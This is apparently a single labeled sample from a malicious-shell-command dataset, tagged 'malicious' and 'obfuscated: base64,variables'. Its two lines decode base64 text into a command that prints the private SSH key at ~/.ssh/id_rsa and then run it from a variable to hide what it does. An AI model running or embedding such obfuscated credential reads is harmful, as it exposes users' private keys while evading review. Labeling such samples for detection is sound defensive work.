# label: malicious; obfuscated: base64,variables
cmd=$(echo Y2F0IH4vLnNzaC9pZF9yc2E= | base64 -d)
$cmd
